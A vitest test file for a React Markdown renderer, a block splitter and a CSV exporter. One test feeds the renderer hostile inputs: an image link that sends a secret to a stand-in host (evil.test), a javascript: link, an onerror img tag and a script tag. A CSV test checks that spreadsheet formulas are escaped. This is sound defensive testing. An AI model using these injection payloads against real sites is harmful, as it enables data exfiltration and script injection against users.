import { createElement } from "react";
import { renderToStaticMarkup } from "react-dom/server";
import { MemoryRouter } from "react-router-dom";
import { expect, test } from "vitest";
import { blocksOf } from "./markdown-blocks.ts";
import Markdown from "./markdown.tsx";
import { csvOf } from "./results/csv.ts";

const htmlOf = (text: string, streaming = false) =>
  renderToStaticMarkup(createElement(MemoryRouter, null, createElement(Markdown, { text, streaming })));

test("nothing that a model writes reaches another site: no image, no foreign link, no HTML, no script", () => {
  const hostile = [
    "![x](https://evil.test/?d=secret)",
    "[click](https://evil.test/a)",
    "[click](//evil.test)",
    "[click](/\\evil.test)",
    "[click](javascript:alert(1))",
    "<img src=https://evil.test/x onerror=alert(1)>",
    "https://evil.test/auto",
    "<script>alert(1)</script>",
    "![x][r]\n\n[r]: https://evil.test/r",
  ];
  for (const text of hostile) expect(htmlOf(text), text).not.toMatch(/<(?:a|img|script)\b/);
  expect(htmlOf("[the machine](/machines?query=5500)")).toMatch(/<a [^>]*href="\/machines\?query=5500"/);
});

test("marks that are still open are closed while a text is being written", () => {
  expect(htmlOf("This is **impor", true)).toContain("<strong>impor</strong>");
});

test("a text is split at blank lines, but not inside code, lists and what is indented", () => {
  expect(blocksOf("One\n\nTwo\nthree")).toEqual(["One\n", "Two\nthree"]);
  expect(blocksOf("```\na\n\nb\n```\n\nafter")).toHaveLength(2);
  expect(blocksOf("- a\n\n- b\n\n  more of b\n\nend")).toEqual(["- a\n\n- b\n\n  more of b\n", "end"]);
  expect(blocksOf("")).toEqual([]);
});

test("what a spreadsheet would run as a formula is text in the file", () => {
  expect(
    csvOf([
      { a: "=1+1", b: 'say "x", y', c: { nested: 1 } },
      { a: -5, d: null },
    ]),
  ).toBe('a,b,d\r\n\'=1+1,"say ""x"", y",\r\n-5,,');
});
